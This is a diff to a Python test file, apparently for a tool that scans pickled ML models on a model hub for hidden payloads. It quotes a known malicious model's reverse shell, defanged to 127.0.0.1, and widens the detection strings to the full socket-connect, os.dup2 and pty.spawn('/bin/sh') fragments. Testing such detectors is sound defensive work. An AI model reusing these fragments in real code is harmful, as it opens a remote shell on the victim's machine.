@@ -3,7 +3,8 @@ the rest is.
 
 The payload is the reverse shell of the star23/funnythingy123a models (JFrog, "Data Scientists Targeted by
 Malicious Hugging Face ML Models with Silent Backdoor", 2024), in a pickle built from opcodes, defanged to
-127.0.0.1: its socket and connect calls come after the first 160 characters the hover shows.
+127.0.0.1: its socket and connect calls come after the first 160 characters the hover shows, and its
+``pty.spawn`` after the 240 characters the pickle analyzer used to keep of a string argument.
 """
 
 from __future__ import annotations
@@ -24,7 +25,8 @@ from tests.server.conftest import HubRepos, safetensors_bytes
 from tests.server.harness import server_env, start_client, stop_client
 
 SHA = "c" * 40
-DECISIVE = ("socket.socket()", "s.connect((RHOST,RPORT))")
+# The POSIX branch whole: the socket, the connection, the descriptors and the shell it spawns.
+DECISIVE = ("s=socket.socket();s.connect((RHOST,RPORT))", "os.dup2(s.fileno(),fd)", 'pty.spawn("/bin/sh")')
 
 
 def reverse_shell_pickle() -> bytes:
